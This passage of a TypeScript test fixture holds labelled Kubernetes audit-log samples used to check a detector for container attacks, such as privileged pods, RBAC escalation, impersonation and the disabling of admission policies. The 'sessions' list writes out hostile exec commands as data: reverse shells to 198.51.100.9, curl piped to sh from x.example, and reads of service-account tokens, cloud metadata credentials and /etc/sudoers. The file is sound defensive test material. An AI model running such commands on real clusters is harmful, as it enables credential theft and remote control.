import { podOf, type Sample, templateOf } from './audit-requests.ts';

/**
 * What attackers do, by the public descriptions of ATT&CK for Containers and the threat matrix for Kubernetes, and what is
 * like it and ordinary. `attack`: this row tells it, at this severity. `ordinary`: LOW at most, or nothing. `noise`: nothing.
 */
export type Label = 'attack' | 'ordinary' | 'noise';

export type Row = readonly [label: Label, detection: string, severity: string, sample: Sample];

const rbac = 'rbac.authorization.k8s.io';
const binding = (roleRef: string, subjects: readonly unknown[], kind = 'ClusterRole') => ({
  roleRef: { apiGroup: rbac, kind, name: roleRef },
  subjects,
});
const role = (...rules: readonly unknown[]) => ({ rules });
const ci = { kind: 'ServiceAccount', name: 'deployer', namespace: 'ci' };
const command = (...words: readonly string[]): string =>
  words.map((word) => `command=${encodeURIComponent(word)}`).join('&');
const host = (path: string) => ({ volumes: [{ name: 'v', hostPath: { path } }] });
const capability = (name: string) => ({ securityContext: { capabilities: { add: [name] } } });
const rs = {
  metadata: { generateName: 'web-7d9c5b6f4d-', ownerReferences: [{ kind: 'ReplicaSet', name: 'web-7d9c5b6f4d' }] },
};

const sessions: readonly Row[] = [
  [
    'attack',
    'pod-exec-suspicious',
    'HIGH',
    {
      by: 'eve',
      does: 'create pods/exec shop/web',
      query: command('cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'),
    },
  ],
  [
    'attack',
    'pod-exec-suspicious',
    'HIGH',
    {
      by: 'eve',
      does: 'get pods/exec shop/web',
      query: command('sh', '-c', 'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1'),
    },
  ],
  [
    'attack',
    'pod-exec-suspicious',
    'HIGH',
    {
      by: 'eve',
      does: 'get pods/exec shop/web',
      query: command('curl', '-s', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'),
    },
  ],
  [
    'attack',
    'pod-exec-suspicious',
    'HIGH',
    { by: 'eve', does: 'get pods/exec shop/web', query: command('tar', 'cf', '-', '/etc/app') },
  ],
  [
    'attack',
    'pod-exec-suspicious',
    'HIGH',
    { by: 'eve', does: 'get pods/exec shop/web', query: command('nsenter', '-t', '1', '-m', 'sh') },
  ],
  [
    'attack',
    'pod-exec-suspicious',
    'HIGH',
    { by: 'eve', does: 'get pods/exec shop/web', query: command('sh', '-c', 'curl http://x.example/i.sh | sh') },
  ],
  [
    'attack',
    'pod-exec-suspicious',
    'HIGH',
    { by: 'eve', does: 'get pods/exec shop/web', query: command('python3', '-c', 'import pty; pty.spawn("/bin/sh")') },
  ],
  [
    'attack',
    'pod-exec-suspicious',
    'HIGH',
    { by: 'eve', does: 'get pods/exec shop/web', query: command('nc', '-e', '/bin/sh', '198.51.100.9', '4444') },
  ],
  [
    'attack',
    'pod-exec-suspicious',
    'HIGH',
    { by: 'eve', does: 'get pods/exec shop/web', query: command('cat', '/proc/1/environ') },
  ],
  [
    'attack',
    'pod-exec-suspicious',
    'HIGH',
    { by: 'shop/web', does: 'create pods/exec shop/db', query: command('sh', '-c', 'mkfifo /tmp/f') },
  ],
  [
    'ordinary',
    'pod-exec',
    'LOW',
    { by: 'ci/runner', does: 'create pods/exec ci/build-1', query: command('sh', '-c', 'make test') },
  ],
  [
    'ordinary',
    'pod-exec',
    'LOW',
    { by: 'ci/runner', does: 'create pods/exec ci/build-1', query: command('tar', 'xf', '-', '-C', '/src') },
  ],
  ['attack', 'pod-exec', 'MEDIUM', { by: 'eve', does: 'get pods/exec shop/web', query: command('sh') }],
  ['attack', 'pod-exec', 'HIGH', { by: 'eve', does: 'get pods/attach kube-system/etcd-1' }],
  [
    'attack',
    'pod-exec',
    'HIGH',
    { by: 'shop/web', does: 'create pods/exec kube-system/coredns-1', query: command('sh') },
  ],
  [
    'attack',
    'pod-exec',
    'MEDIUM',
    { by: 'eve', does: 'get subresources.kubevirt.io:virtualmachineinstances/console shop/vm' },
  ],
  ['ordinary', 'pod-exec', 'LOW', { by: 'eve', does: 'create pods/portforward shop/web' }],
  ['noise', 'pod-exec', '', { by: 'eve', does: 'get pods/log shop/web' }],
  ['noise', 'pod-exec', '', { by: 'eve', does: 'get pods/exec shop/gone', code: 404 }],
  [
    'attack',
    'pod-exec-suspicious',
    'HIGH',
    {
      by: 'eve',
      does: 'create pods/exec shop/web',
      query: command('sh', '-c', 'curl -H Metadata:true "http://$HOST/metadata/identity/oauth2/token?resource=x"'),
    },
  ],
  [
    'attack',
    'pod-exec-suspicious',
    'HIGH',
    {
      by: 'eve',
      does: 'create pods/exec shop/web',
      query: command('zsh', '-c', 'zmodload zsh/net/tcp; ztcp 198.51.100.9 4444'),
    },
  ],
  [
    'attack',
    'pod-exec-suspicious',
    'HIGH',
    { by: 'eve', does: 'create pods/exec shop/web', query: command('cat', '/etc/sudoers') },
  ],
  [
    'attack',
    'pod-exec-suspicious',
    'HIGH',
    { by: 'eve', does: 'create pods/exec shop/web', query: command('sh', '-c', 'bash -i >& /tmp/f') },
  ],
  // Near what is suspicious: a copy into a Pod, a look at itself, an interpreter without a socket.
  [
    'ordinary',
    'pod-exec',
    'LOW',
    { by: 'ci/runner', does: 'create pods/exec ci/build', query: command('tar', '-xmf', '-', '-C', '/src') },
  ],
  [
    'ordinary',
    'pod-exec',
    'LOW',
    {
      by: 'ci/runner',
      does: 'create pods/exec ci/build',
      query: command('curl', '-fsS', 'http://localhost:8080/healthz'),
    },
  ],
  [
    'ordinary',
    'pod-exec',
    'LOW',
    { by: 'ci/runner', does: 'create pods/exec ci/build', query: command('python3', '-m', 'pytest', '-q', 'tests') },
  ],
];

const pods: readonly Row[] = [
  [
    'attack',
    'ephemeral-container',
    'MEDIUM',
    {
      by: 'eve',
      does: 'patch pods/ephemeralcontainers shop/web',
      body: { spec: { ephemeralContainers: [{ name: 'dbg' }] } },
    },
  ],
  ['attack', 'ephemeral-container', 'MEDIUM', { by: 'eve', does: 'update pods/ephemeralcontainers shop/web' }],
  ['noise', 'ephemeral-container', '', { by: 'eve', does: 'get pods/ephemeralcontainers shop/web' }],
  [
    'noise',
    'ephemeral-container',
    '',
    { by: 'system:node:n1', does: 'patch pods/status shop/web', body: { status: {} }, agent: 'kubelet/v1.36' },
  ],
  [
    'attack',
    'privileged-pod-creation',
    'CRITICAL',
    { by: 'eve', does: 'create pods shop/web', body: podOf({}, { securityContext: { privileged: true } }) },
  ],
  [
    'attack',
    'privileged-pod-creation',
    'CRITICAL',
    { by: 'eve', does: 'create pods shop/web', body: podOf(host('/var/../')) },
  ],
  [
    'attack',
    'privileged-pod-creation',
    'HIGH',
    { by: 'eve', does: 'create pods shop/web', body: podOf({ hostPID: true }) },
  ],
  [
    'attack',
    'privileged-pod-creation',
    'HIGH',
    { by: 'eve', does: 'create pods shop/web', body: podOf(host('/var/run/docker.sock')) },
  ],
  ['attack', 'privileged-pod-creation', 'HIGH', { by: 'eve', does: 'create pods shop/web', body: podOf(host('/var')) }],
  [
    'attack',
    'privileged-pod-creation',
    'HIGH',
    { by: 'eve', does: 'create apps:deployments shop/web', body: templateOf({}, capability('cap_sys_admin')) },
  ],
  [
    'attack',
    'privileged-pod-creation',
    'HIGH',
    {
      by: 'shop/web',
      does: 'create batch:cronjobs shop/web',
      body: { spec: { jobTemplate: { spec: { template: podOf({ hostNetwork: true }) } } } },
    },
  ],
  [
    'attack',
    'privileged-pod-creation',
    'CRITICAL',
    {
      by: 'eve',
      does: 'patch apps:daemonsets shop/web',
      body: [{ op: 'replace', path: '/spec/template/spec/containers/0/securityContext', value: { privileged: true } }],
    },
  ],
  [
    'attack',
    'privileged-pod-creation',
    'CRITICAL',
    {
      by: 'eve',
      does: 'patch apps:daemonsets shop/web',
      body: [{ op: 'add', path: '/spec/template/spec/containers/0/securityContext/privileged', value: true }],
    },
  ],
  [
    'attack',
    'privileged-pod-creation',
    'HIGH',
    {
      by: 'eve',
      does: 'create pods shop/web',
      body: podOf({ securityContext: { windowsOptions: { hostProcess: true } } }),
    },
  ],
  [
    'attack',
    'privileged-pod-creation',
    'CRITICAL',
    { by: 'eve', does: 'create persistentvolumes pv1', body: { spec: { hostPath: { path: '/' } } } },
  ],
  [
    'attack',
    'privileged-pod-creation',
    'MEDIUM',
    { by: 'eve', does: 'create pods shop/web', annotations: { 'audit.k8s.io/truncated': 'true' } },
  ],
  [
    'attack',
    'privileged-pod-creation',
    'MEDIUM',
    {
      by: 'eve',
      does: 'create pods shop/web',
      body: podOf({ hostPID: true }),
      code: 403,
      message: 'pods "web" is forbidden: violates PodSecurity "restricted:latest": host namespaces (hostPID=true)',
    },
  ],
  [
    'attack',
    'privileged-pod-creation',
    'CRITICAL',
    {
      by: 'kube-system/replicaset-controller',
      does: 'create pods shop/',
      body: podOf({}, { securityContext: { privileged: true } }),
      agent: 'curl/8',
    },
  ],
  ['ordinary', 'workload-by-hand', 'LOW', { by: 'eve', does: 'create pods shop/web', body: podOf(host('/data')) }],
  [
    'ordinary',
    'workload-by-hand',
    'LOW',
    { by: 'eve', does: 'create apps:deployments shop/web', body: templateOf({}, capability('NET_BIND_SERVICE')) },
  ],
  [
    'noise',
    'privileged-pod-creation',
    '',
    {
      by: 'kube-system/replicaset-controller',
      does: 'create pods shop/',
      body: { ...rs, spec: podOf({ hostPID: true }).spec },
    },
  ],
  [
    'noise',
    'privileged-pod-creation',
    '',
    { by: 'eve', does: 'create pods shop/web', query: 'dryRun=All', body: podOf({ hostPID: true }) },
  ],
];

const rights: readonly Row[] = [
  [
    'attack',
    'rbac-change',
    'CRITICAL',
    { by: 'eve', does: `create ${rbac}:clusterrolebindings own`, body: binding('cluster-admin', [ci]) },
  ],
  [
    'attack',
    'rbac-change',
    'CRITICAL',
    {
      by: 'eve',
      does: `create ${rbac}:clusterrolebindings own`,
      body: binding('view', [{ kind: 'Group', name: 'system:unauthenticated' }]),
    },
  ],
  ['attack', 'rbac-change', 'CRITICAL', { by: 'eve', does: `create ${rbac}:clusterrolebindings my-cluster-admin` }],
  [
    'attack',
    'rbac-change',
    'CRITICAL',
    {
      by: 'eve',
      does: `patch ${rbac}:clusterrolebindings own`,
      body: { subjects: [ci] },
      result: binding('cluster-admin', [ci]),
    },
  ],
  [
    'attack',
    'rbac-change',
    'HIGH',
    { by: 'eve', does: `create ${rbac}:rolebindings shop/own`, body: binding('cluster-admin', [ci]) },
  ],
  [
    'attack',
    'rbac-change',
    'HIGH',
    { by: 'eve', does: `create ${rbac}:rolebindings shop/own`, body: binding('view', [{ kind: 'User', name: 'eve' }]) },
  ],
  [
    'attack',
    'rbac-change',
    'HIGH',
    {
      by: 'shop/web',
      does: `create ${rbac}:rolebindings shop/own`,
      body: binding('view', [{ kind: 'ServiceAccount', name: 'web', namespace: 'shop' }]),
    },
  ],
  [
    'attack',
    'rbac-change',
    'HIGH',
    {
      by: 'eve',
      does: `create ${rbac}:clusterroles all`,
      body: role({ verbs: ['*'], apiGroups: ['*'], resources: ['*'] }),
    },
  ],
  [
    'attack',
    'rbac-change',
    'HIGH',
    { by: 'eve', does: `create ${rbac}:roles shop/x`, body: role({ verbs: ['create'], resources: ['pods/exec'] }) },
  ],
  [
    'attack',
    'rbac-change',
    'HIGH',
    {
      by: 'eve',
      does: `update ${rbac}:clusterroles x`,
      body: role({ verbs: ['get', 'list'], resources: ['secrets'] }),
    },
  ],
  [
    'attack',
    'rbac-change',
    'HIGH',
    { by: 'eve', does: `create ${rbac}:clusterroles x`, body: role({ verbs: ['impersonate'], resources: ['users'] }) },
  ],
  ['attack', 'rbac-change', 'HIGH', { by: 'eve', does: `delete ${rbac}:clusterroles system:node` }],
  [
    'attack',
    'rbac-change',
    'MEDIUM',
    {
      by: 'eve',
      does: `create ${rbac}:clusterrolebindings x`,
      body: binding('cluster-admin', [ci]),
      code: 403,
      message:
        'clusterrolebindings is forbidden: user "eve" is attempting to grant RBAC permissions not currently held',
    },
  ],
  [
    'attack',
    'rbac-change',
    'MEDIUM',
    {
      by: 'kube-system/generic-garbage-collector',
      does: `create ${rbac}:rolebindings shop/own`,
      body: binding('view', [ci]),
    },
  ],
  [
    'noise',
    'rbac-change',
    '',
    {
      by: 'system:apiserver',
      does: `create ${rbac}:clusterrolebindings system:discovery`,
      body: binding('system:discovery', [{ kind: 'Group', name: 'system:authenticated' }]),
    },
  ],
  [
    'noise',
    'rbac-change',
    '',
    {
      by: 'kube-system/clusterrole-aggregation-controller',
      does: `patch ${rbac}:clusterroles admin`,
      body: role({ verbs: ['*'], resources: ['*'] }),
    },
  ],
  [
    'noise',
    'rbac-change',
    '',
    { by: 'kube-system/namespace-controller', does: `deletecollection ${rbac}:rolebindings shop/` },
  ],
  ['noise', 'rbac-change', '', { by: 'eve', does: `get ${rbac}:clusterroles cluster-admin` }],
  [
    'attack',
    'impersonation',
    'HIGH',
    { by: 'eve', does: 'list pods shop/', as: 'admin', asGroups: ['system:masters'] },
  ],
  ['attack', 'impersonation', 'HIGH', { by: 'eve', does: 'delete secrets shop/db', as: 'kube-system/default' }],
  [
    'attack',
    'impersonation',
    'HIGH',
    { by: 'eve', does: 'get nodes n1', as: 'system:node:n1', asGroups: ['system:nodes'] },
  ],
  ['attack', 'impersonation', 'HIGH', { by: 'cattle-system/rancher', does: 'get pods shop/web', as: 'system:node:n1' }],
  ['noise', 'impersonation', '', { by: 'eve', does: 'list pods shop/', as: 'bob', asGroups: ['dev'] }],
  [
    'noise',
    'impersonation',
    '',
    { by: 'cattle-system/rancher', does: 'list pods shop/', as: 'u-b4qkhsnliz', asGroups: ['system:authenticated'] },
  ],
  [
    'attack',
    'token-request',
    'MEDIUM',
    { by: 'eve', does: 'create serviceaccounts/token shop/web', body: { spec: { expirationSeconds: 3600 } } },
  ],
  [
    'attack',
    'token-request',
    'HIGH',
    { by: 'eve', does: 'create serviceaccounts/token kube-system/generic-garbage-collector' },
  ],
  [
    'attack',
    'token-request',
    'HIGH',
    {
      by: 'shop/web',
      does: 'create serviceaccounts/token shop/web',
      body: { spec: { expirationSeconds: 31_536_000 } },
    },
  ],
  [
    'attack',
    'token-request',
    'MEDIUM',
    {
      by: 'eve',
      does: 'create certificates.k8s.io:certificatesigningrequests evil',
      body: { spec: { signerName: 'kubernetes.io/kube-apiserver-client' } },
    },
  ],
  [
    'attack',
    'token-request',
    'HIGH',
    { by: 'eve', does: 'update certificates.k8s.io:certificatesigningrequests/approval evil' },
  ],
  [
    'attack',
    'token-request',
    'HIGH',
    {
      by: 'system:bootstrap:abcdef',
      does: 'create certificates.k8s.io:certificatesigningrequests evil',
      agent: 'curl/8.5.0',
      body: { spec: { signerName: 'kubernetes.io/kube-apiserver-client-kubelet' } },
    },
  ],
  [
    'attack',
    'token-request',
    'MEDIUM',
    { by: 'system:node:n1', does: 'create serviceaccounts/token shop/web', agent: 'curl/8.5.0' },
  ],
  [
    'attack',
    'token-request',
    'MEDIUM',
    { by: 'system:kube-controller-manager', does: 'create serviceaccounts/token shop/web' },
  ],
  [
    'noise',
    'token-request',
    '',
    { by: 'system:node:n1', does: 'create serviceaccounts/token shop/web', agent: 'kubelet/v1.36' },
  ],
  [
    'noise',
    'token-request',
    '',
    { by: 'system:kube-controller-manager', does: 'create serviceaccounts/token kube-system/ttl-controller' },
  ],
  [
    'noise',
    'token-request',
    '',
    { by: 'shop/web', does: 'create serviceaccounts/token shop/web', body: { spec: { expirationSeconds: 3600 } } },
  ],
  [
    'noise',
    'token-request',
    '',
    {
      by: 'system:node:n1',
      does: 'create certificates.k8s.io:certificatesigningrequests csr-1',
      agent: 'kubelet/v1.36',
      body: { spec: { signerName: 'kubernetes.io/kubelet-serving' } },
    },
  ],
  [
    'noise',
    'token-request',
    '',
    {
      by: 'kube-system/certificate-controller',
      does: 'update certificates.k8s.io:certificatesigningrequests/approval csr-1',
    },
  ],
  [
    'ordinary',
    'token-request',
    'LOW',
    {
      by: 'system:bootstrap:abcdef',
      does: 'create certificates.k8s.io:certificatesigningrequests csr-1',
      agent: 'kubelet/v1.36',
      body: { spec: { signerName: 'kubernetes.io/kube-apiserver-client-kubelet' } },
    },
  ],
  [
    'attack',
    'permission-discovery',
    'LOW',
    { by: 'shop/web', does: 'create authorization.k8s.io:selfsubjectrulesreviews -', code: 201 },
  ],
  [
    'attack',
    'permission-discovery',
    'LOW',
    {
      by: 'kube-system/coredns',
      does: 'create authorization.k8s.io:selfsubjectaccessreviews -',
      code: 201,
      agent: 'kubectl/v1.36',
    },
  ],
  [
    'noise',
    'permission-discovery',
    '',
    { by: 'eve', does: 'create authorization.k8s.io:selfsubjectaccessreviews -', code: 201 },
  ],
  [
    'noise',
    'permission-discovery',
    '',
    { by: 'argocd/argocd-server', does: 'create authorization.k8s.io:selfsubjectaccessreviews -', code: 201 },
  ],
];

const admission = 'admissionregistration.k8s.io';
const psa = (level: unknown) => ({ metadata: { labels: { 'pod-security.kubernetes.io/enforce': level } } });

const guards: readonly Row[] = [
  ['attack', 'admission-change', 'HIGH', { by: 'eve', does: `create ${admission}:mutatingwebhookconfigurations evil` }],
  [
    'attack',
    'admission-change',
    'HIGH',
    { by: 'eve', does: `delete ${admission}:validatingwebhookconfigurations kyverno-resource-validating-webhook-cfg` },
  ],
  ['attack', 'admission-change', 'HIGH', { by: 'eve', does: 'delete kyverno.io:clusterpolicies restrict' }],
  [
    'attack',
    'admission-change',
    'HIGH',
    {
      by: 'cert-manager/cert-manager',
      does: `patch ${admission}:mutatingwebhookconfigurations x`,
      body: { webhooks: [{ name: 'a', failurePolicy: 'Ignore' }] },
    },
  ],
  [
    'ordinary',
    'admission-change',
    'LOW',
    { by: 'argocd/argocd-application-controller', does: `patch ${admission}:validatingwebhookconfigurations x` },
  ],
  [
    'noise',
    'admission-change',
    '',
    { by: 'kyverno/kyverno-admission-controller', does: `update ${admission}:validatingwebhookconfigurations kyverno` },
  ],
  [
    'noise',
    'admission-change',
    '',
    {
      by: 'cert-manager/cert-manager-cainjector',
      does: `patch ${admission}:validatingwebhookconfigurations x`,
      body: { webhooks: [{ name: 'a', clientConfig: { caBundle: 'Q0E=' } }] },
    },
  ],
  [
    'attack',
    'api-extension-change',
    'HIGH',
    { by: 'eve', does: 'create apiregistration.k8s.io:apiservices v1.evil.example' },
  ],
  [
    'attack',
    'api-extension-change',
    'HIGH',
    {
      by: 'eve',
      does: 'patch apiextensions.k8s.io:customresourcedefinitions x.example',
      body: { spec: { conversion: { strategy: 'Webhook', webhook: {} } } },
    },
  ],
  [
    'noise',
    'api-extension-change',
    '',
    { by: 'system:apiserver', does: 'update apiregistration.k8s.io:apiservices v1.apps' },
  ],
  [
    'noise',
    'api-extension-change',
    '',
    {
      by: 'eve',
      does: 'create apiextensions.k8s.io:customresourcedefinitions x.example',
      body: { spec: { conversion: { strategy: 'None' } } },
    },
  ],
  ['attack', 'watcher-change', 'HIGH', { by: 'eve', does: 'delete zen.kube-zen.io:observations shop/falco-1' }],
  ['attack', 'watcher-change', 'HIGH', { by: 'eve', does: 'deletecollection wgpolicyk8s.io:policyreports shop/' }],
  [
    'attack',
    'watcher-change',
    'MEDIUM',
    { by: 'eve', does: 'create zen.kube-zen.io:observationfilters zen-system/off' },
  ],
  ['attack', 'watcher-change', 'MEDIUM', { by: 'eve', does: 'delete pods falco/falco-abcde' }],
  ['attack', 'watcher-change', 'MEDIUM', { by: 'eve', does: 'create pods/eviction falco/falco-abcde' }],
  ['attack', 'watcher-change', 'MEDIUM', { by: 'eve', does: 'create kyverno.io:policyexceptions shop/x' }],
  [
    'noise',
    'watcher-change',
    '',
    { by: 'trivy-system/trivy-operator', does: 'delete aquasecurity.github.io:vulnerabilityreports shop/x' },
  ],
  ['noise', 'watcher-change', '', { by: 'kube-system/daemon-set-controller', does: 'delete pods falco/falco-abcde' }],
  ['noise', 'watcher-change', '', { by: 'zen-system/gc', does: 'delete zen.kube-zen.io:observations shop/falco-1' }],
  ['attack', 'pod-security-change', 'HIGH', { by: 'eve', does: 'patch namespaces shop', body: psa('privileged') }],
  [
    'attack',
    'pod-security-change',
    'HIGH',
    {
      by: 'eve',
      does: 'patch namespaces shop',
      body: [{ op: 'remove', path: '/metadata/labels/pod-security.kubernetes.io~1enforce' }],
    },
  ],
  ['attack', 'pod-security-change', 'HIGH', { by: 'eve', does: 'patch namespaces shop', body: psa(null) }],
  [
    'attack',
    'pod-security-change',
    'HIGH',
    {
      by: 'eve',
      does: 'patch namespaces shop',
      body: [{ op: 'replace', path: '/metadata/labels', value: { team: 'x' } }],
    },
  ],
  [
    'attack',
    'pod-security-change',
    'HIGH',
    {
      by: 'eve',
      does: 'patch namespaces shop',
      body: { metadata: { labels: { 'admission.gatekeeper.sh/ignore': 'yes' } } },
    },
  ],
  ['noise', 'pod-security-change', '', { by: 'eve', does: 'patch namespaces shop', body: psa('restricted') }],
  [
    'noise',
    'pod-security-change',
    '',
    { by: 'eve', does: 'create namespaces shop', body: { metadata: { labels: { team: 'x' } } } },
  ],
  ['attack', 'critical-config-change', 'HIGH', { by: 'eve', does: 'patch configmaps kube-system/aws-auth' }],
  ['attack', 'critical-config-change', 'HIGH', { by: 'shop/web', does: 'update configmaps kube-system/coredns' }],
  ['noise', 'critical-config-change', '', { by: 'eve', does: 'patch configmaps shop/settings' }],
  [
    'noise',
    'critical-config-change',
    '',
    { by: 'kube-system/cluster-autoscaler', does: 'update configmaps kube-system/cluster-autoscaler-status' },
  ],
  ['attack', 'deploy-source-change', 'MEDIUM', { by: 'eve', does: 'create argoproj.io:applications argocd/evil' }],
  [
    'attack',
    'deploy-source-change',
    'MEDIUM',
    { by: 'eve', does: 'patch source.toolkit.fluxcd.io:gitrepositories flux-system/apps' },
  ],
  [
    'noise',
    'deploy-source-change',
    '',
    { by: 'argocd/argocd-application-controller', does: 'patch argoproj.io:applications argocd/web' },
  ],
  [
    'noise',
    'deploy-source-change',
    '',
    {
      by: 'flux-system/source-controller',
      does: 'patch source.toolkit.fluxcd.io:gitrepositories/status flux-system/apps',
    },
  ],
  [
    'attack',
    'cloud-identity-change',
    'MEDIUM',
    {
      by: 'eve',
      does: 'patch serviceaccounts shop/web',
      body: { metadata: { annotations: { 'eks.amazonaws.com/role-arn': 'arn:aws:iam::111122223333:role/admin' } } },
    },
  ],
  [
    'attack',
    'cloud-identity-change',
    'MEDIUM',
    {
      by: 'shop/web',
      does: 'update serviceaccounts shop/web',
      body: { metadata: { annotations: { 'iam.gke.io/gcp-service-account': 'a@b.iam.gserviceaccount.com' } } },
    },
  ],
  [
    'noise',
    'cloud-identity-change',
    '',
    { by: 'eve', does: 'patch serviceaccounts shop/web', body: { metadata: { labels: { a: 'b' } } } },
  ],
  [
    'noise',
    'cloud-identity-change',
    '',
    {
      by: 'flux-system/kustomize-controller',
      does: 'patch serviceaccounts shop/web',
      body: { metadata: { annotations: { 'eks.amazonaws.com/role-arn': 'x' } } },
    },
  ],
];

const secrets: readonly Row[] = [
  ['attack', 'secret-read', 'HIGH', { by: 'eve', does: 'list secrets -' }],
  ['attack', 'secret-read', 'HIGH', { by: 'shop/web', does: 'watch secrets -', stage: 'ResponseStarted' }],
  ['attack', 'secret-read', 'MEDIUM', { by: 'shop/web', does: 'get secrets payments/db' }],
  ['attack', 'secret-read', 'MEDIUM', { by: 'eve', does: 'get secrets kube-system/bootstrap-token-abcdef' }],
  [
    'attack',
    'secret-read',
    'MEDIUM',
    { by: 'cert-manager/cert-manager', does: 'list secrets shop/', agent: 'curl/8.5.0' },
  ],
  ['ordinary', 'secret-read', 'LOW', { by: 'shop/web', does: 'get secrets shop/db' }],
  [
    'ordinary',
    'helm-release-read',
    'LOW',
    { by: 'ci/runner', does: 'list secrets shop/', query: 'labelSelector=owner%3Dhelm&limit=500' },
  ],
  ['noise', 'secret-read', '', { by: 'external-secrets/external-secrets', does: 'list secrets -' }],
  ['noise', 'secret-read', '', { by: 'system:kube-controller-manager', does: 'watch secrets -' }],
  ['attack', 'helm-release-read', 'MEDIUM', { by: 'eve', does: 'list secrets -', query: 'labelSelector=owner%3Dhelm' }],
  [
    'attack',
    'secret-read',
    'HIGH',
    { by: 'eve', does: 'list secrets -', query: 'labelSelector=owner%3Dhelm%2Cowner%21%3Dx' },
  ],
  ['attack', 'secret-access', 'MEDIUM', { by: 'eve', does: 'create secrets shop/token', code: 201 }],
  ['attack', 'secret-access', 'MEDIUM', { by: 'shop/web', does: 'patch secrets shop/db' }],
  [
    'ordinary',
    'secret-access',
    'LOW',
    { by: 'ci/runner', does: 'create secrets shop/sh.helm.release.v1.web.v3', code: 201 },
  ],
  ['noise', 'secret-access', '', { by: 'cert-manager/cert-manager', does: 'update secrets shop/tls' }],
  ['noise', 'secret-access', '', { by: 'eve', does: 'create secrets shop/dup', code: 409 }],
  ['attack', 'resource-deletion', 'HIGH', { by: 'eve', does: 'delete namespaces shop' }],
  ['attack', 'resource-deletion', 'HIGH', { by: 'eve', does: 'deletecollection pods shop/' }],
  ['attack', 'resource-deletion', 'HIGH', { by: 'shop/web', does: 'delete velero.io:backups velero/daily' }],
  [
    'attack',
    'resource-deletion',
    'MEDIUM',
    { by: 'shop/web', does: 'delete networking.k8s.io:networkpolicies shop/deny' },
  ],
  ['attack', 'resource-deletion', 'MEDIUM', { by: 'eve', does: 'delete events shop/x.17' }],
  ['ordinary', 'resource-deletion', 'LOW', { by: 'ci/runner', does: 'delete secrets shop/sh.helm.release.v1.web.v1' }],
  [
    'noise',
    'resource-deletion',
    '',
    { by: 'kube-system/namespace-controller', does: 'deletecollection secrets shop/' },
  ],
  ['noise', 'resource-deletion', '', { by: 'eve', does: 'delete pods shop/web-1' }],
  [
    'noise',
    'resource-deletion',
    '',
    { by: 'eve', does: 'delete apps:deployments shop/web', body: { kind: 'DeleteOptions', dryRun: ['All'] } },
  ],
];

const node = (path: string): Pick<Sample, 'path'> => ({ path: `/api/v1/nodes/n1/proxy${path}` });
const review = (user: string) => ({
  spec: { user, resourceAttributes: { resource: 'nodes', subresource: 'proxy', verb: 'get' } },
});

const network: readonly Row[] = [
  ['attack', 'proxy-access', 'HIGH', { by: 'eve', does: 'create nodes/proxy n1', ...node('/run/shop/web-1/web') }],
  ['attack', 'proxy-access', 'HIGH', { by: 'shop/web', does: 'get nodes/proxy n1', ...node('/pods') }],
  [
    'attack',
    'proxy-access',
    'HIGH',
    {
      by: 'system:node:n1',
      does: 'create authorization.k8s.io:subjectaccessreviews -',
      agent: 'kubelet/v1.36',
      body: review('eve'),
      code: 201,
    },
  ],
  [
    'attack',
    'proxy-access',
    'MEDIUM',
    { by: 'eve', does: 'get services/proxy shop/web', path: '/api/v1/namespaces/shop/services/web/proxy/admin' },
  ],
  [
    'ordinary',
    'proxy-access',
    'LOW',
    {
      by: 'eve',
      does: 'get services/proxy monitoring/prometheus',
      path: '/api/v1/namespaces/monitoring/services/prometheus/proxy/api/v1/query',
    },
  ],
  [
    'noise',
    'proxy-access',
    '',
    { by: 'monitoring/prometheus', does: 'get nodes/proxy n1', ...node('/metrics/cadvisor') },
  ],
  [
    'noise',
    'proxy-access',
    '',
    {
      by: 'system:node:n1',
      does: 'create authorization.k8s.io:subjectaccessreviews -',
      agent: 'kubelet/v1.36',
      body: review('kube-apiserver-kubelet-client'),
      code: 201,
    },
  ],
  [
    'attack',
    'anonymous-access',
    'HIGH',
    { by: 'system:anonymous', groups: ['system:unauthenticated'], does: 'list pods shop/' },
  ],
  [
    'attack',
    'anonymous-access',
    'HIGH',
    { by: 'system:anonymous', groups: ['system:unauthenticated'], does: 'GET /logs/kube-apiserver.log' },
  ],
  [
    'noise',
    'anonymous-access',
    '',
    { by: 'system:anonymous', groups: ['system:unauthenticated'], does: 'GET /healthz' },
  ],
  [
    'noise',
    'anonymous-access',
    '',
    { by: 'system:anonymous', groups: ['system:unauthenticated'], does: 'get configmaps kube-public/cluster-info' },
  ],
  [
    'attack',
    'kube-system-workload',
    'HIGH',
    { by: 'eve', does: 'create apps:deployments kube-system/coredns-2', body: templateOf() },
  ],
  [
    'attack',
    'kube-system-workload',
    'HIGH',
    { by: 'shop/web', does: 'patch apps:daemonsets kube-system/kube-proxy', body: templateOf({}, { image: 'evil' }) },
  ],
  [
    'attack',
    'kube-system-workload',
    'HIGH',
    { by: 'eve', does: 'patch apps:deployments/scale kube-system/metrics-server', body: { spec: { replicas: 0 } } },
  ],
  [
    'noise',
    'kube-system-workload',
    '',
    {
      by: 'eve',
      does: 'patch apps:deployments kube-system/coredns',
      body: { spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': 'x' } } } } },
    },
  ],
  [
    'noise',
    'kube-system-workload',
    '',
    { by: 'kube-system/helm-install-traefik', does: 'create apps:deployments kube-system/traefik', body: templateOf() },
  ],
  [
    'attack',
    'pod-security-violation',
    'MEDIUM',
    {
      by: 'ci/runner',
      does: 'create apps:deployments shop/web',
      body: templateOf(),
      annotations: {
        'pod-security.kubernetes.io/audit-violations': 'would violate PodSecurity "baseline:latest": host namespaces',
      },
    },
  ],
  [
    'attack',
    'pod-security-violation',
    'MEDIUM',
    {
      by: 'eve',
      does: 'create pods shop/web',
      body: podOf(),
      annotations: {
        'validation.policy.admission.k8s.io/validation_failure': '[{"message":"no","policy":"p","binding":"b"}]',
      },
    },
  ],
  [
    'noise',
    'pod-security-violation',
    '',
    {
      by: 'kube-system/replicaset-controller',
      does: 'create pods shop/',
      body: { ...rs, spec: podOf().spec },
      annotations: { 'pod-security.kubernetes.io/audit-violations': 'would violate' },
    },
  ],
  [
    'noise',
    'pod-security-violation',
    '',
    { by: 'argocd/argocd-application-controller', does: 'patch apps:deployments shop/web', body: templateOf() },
  ],
  ['attack', 'workload-by-hand', 'MEDIUM', { by: 'eve', does: 'create batch:cronjobs shop/persist' }],
  ['attack', 'workload-by-hand', 'LOW', { by: 'shop/web', does: 'create pods shop/miner', body: podOf() }],
